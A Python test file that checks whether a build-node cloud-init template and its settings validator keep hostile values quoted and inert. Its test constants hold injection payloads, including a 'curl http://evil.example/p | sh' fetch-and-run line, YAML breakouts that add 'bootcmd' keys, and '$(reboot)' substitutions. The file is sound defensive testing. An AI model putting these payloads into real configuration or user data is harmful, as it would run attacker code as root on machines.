"""Values in a build node's user data cannot rewrite it: settings refuse them, and the template quotes them anyway.

The user data is a root shell script inside a #cloud-config document. A value that closed a quote or a YAML block
could run commands as root at first boot or add top-level cloud-init keys such as `bootcmd`.
"""
import shlex

import pytest
import yaml

from components.buildpool.bootstrap import SecretFile, build_node_user_data
from quaykit.preview.artifacts import artifact_files
from cli import project_copy, quaykit

SHELL_BREAKOUT = "x'; curl http://evil.example/p | sh; echo '"
YAML_BREAKOUT = "x'\nbootcmd:\n  - [sh, -c, 'curl http://evil.example/p | sh']\nruncmd: []\n#"
# YAML reads \r, NEL, LS and PS as line breaks too; a block re-indented on \n alone would be escaped by them.
OTHER_BREAKS = "x\r\nbootcmd: [reboot]\u2028bootcmd: [reboot]\x85bootcmd: [reboot]\u2029#"
LINE_SEPARATOR = "x\nruncmd: []\u2028bootcmd: [reboot]\n#"
HOSTILE = [SHELL_BREAKOUT, YAML_BREAKOUT, OTHER_BREAKS, LINE_SEPARATOR, "$(reboot)`reboot`\"; reboot #"]
TOP_LEVEL_KEYS = ["hostname", "package_update", "packages", "write_files", "runcmd"]


@pytest.mark.parametrize("value", [SHELL_BREAKOUT, YAML_BREAKOUT, "quay.io/quay/builder:stable sh", "quay.io/Quay/builder"])
def test_settings_refuse_a_builder_image_that_is_not_an_image_reference(value, tmp_path):
    project = project_copy(tmp_path)
    stack_file = project / "stacks" / "Pulumi.dev.yaml"
    document = yaml.safe_load(stack_file.read_text())
    document["config"]["quaykit:pool"]["builderImage"] = value
    stack_file.write_text(yaml.safe_dump(document, sort_keys=False))

    result = quaykit("preview", "--stack", "dev", "--out", str(tmp_path / "out"), cwd=project)

    assert result.returncode == 2, result.stdout + result.stderr
    assert result.stderr == (
        "error: stacks/Pulumi.dev.yaml: quaykit:pool.builderImage: not a container image reference such as "
        "quay.io/quay/quay-builder-qemu-fedoracoreos:stable (registry/repository[:tag][@sha256:digest]; "
        f"no spaces, quotes or line breaks) (got {value!r})\n")
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize("value", ["quay.io/quay/quay-builder-qemu-fedoracoreos:stable", "localhost:5000/builder",
                                   "registry.acme.example/team/builder:v1@sha256:" + "0" * 64])
def test_settings_accept_real_image_references(value, plan_for):
    documents = [text for path, text in artifact_files(plan_for("dev", f"pool.builderImage={value}").run).items()
                 if path.parts[0] == "build-nodes"]
    assert documents and all(f"images pull '{value}'\n" in text for text in documents)


def user_data(hostile: str, role: str, via_ssm: bool) -> str:
    """The pure render with `hostile` in every value a stack could ever reach, settings bypassed."""
    secret = (SecretFile(hostile, parameter=hostile, mode=hostile) if via_ssm
              else SecretFile(hostile, content=hostile, mode=hostile))
    return build_node_user_data(
        node_name=hostile, role=role, k3s_version=hostile, node_label=hostile, builder_image=hostile,
        secrets=[secret], server_address=hostile, tls_san=hostile, region=hostile if via_ssm else None)


@pytest.mark.parametrize("via_ssm", [False, True], ids=["inline", "ssm"])
@pytest.mark.parametrize("role", ["server", "agent"])
@pytest.mark.parametrize("hostile", HOSTILE, ids=["shell", "yaml", "other-breaks", "line-separator", "substitution"])
def test_a_hostile_value_stays_one_quoted_value_in_the_rendered_user_data(hostile, role, via_ssm):
    document = yaml.safe_load(user_data(hostile, role, via_ssm))

    assert list(document) == TOP_LEVEL_KEYS
    assert document["hostname"] == hostile
    assert document["runcmd"] == [["/usr/local/sbin/quaykit-bootstrap"]]
    files = {entry["path"]: entry for entry in document["write_files"]}
    script = files["/usr/local/sbin/quaykit-bootstrap"]["content"]
    words = shlex.split(script, comments=True)
    assert f"INSTALL_K3S_VERSION={hostile}" in words
    assert words[words.index("pull") + 1] == hostile
    if via_ssm:
        assert words[words.index("--region") + 1] == hostile
        fetch = len(words) - 1 - words[::-1].index("fetch")
        assert words[fetch + 1: fetch + 4] == [hostile, hostile, hostile]
    else:
        assert files[hostile] == {"path": hostile, "permissions": hostile, "content": hostile}
    config = yaml.safe_load(files["/etc/rancher/k3s/config.yaml"]["content"])
    assert config["node-name"] == hostile and config["node-label"] == [hostile]
    if role == "agent":
        assert config["server"] == f"https://{hostile}:6443"
    else:
        assert config["tls-san"] == [hostile]


def test_the_render_refuses_a_role_it_does_not_know():
    with pytest.raises(ValueError, match="role must be server or agent"):
        build_node_user_data(node_name="n", role="server; reboot", k3s_version="v1.33.5+k3s1",
                             node_label="quaykit.dev/builder=true", builder_image="quay.io/q/b:1", secrets=[])
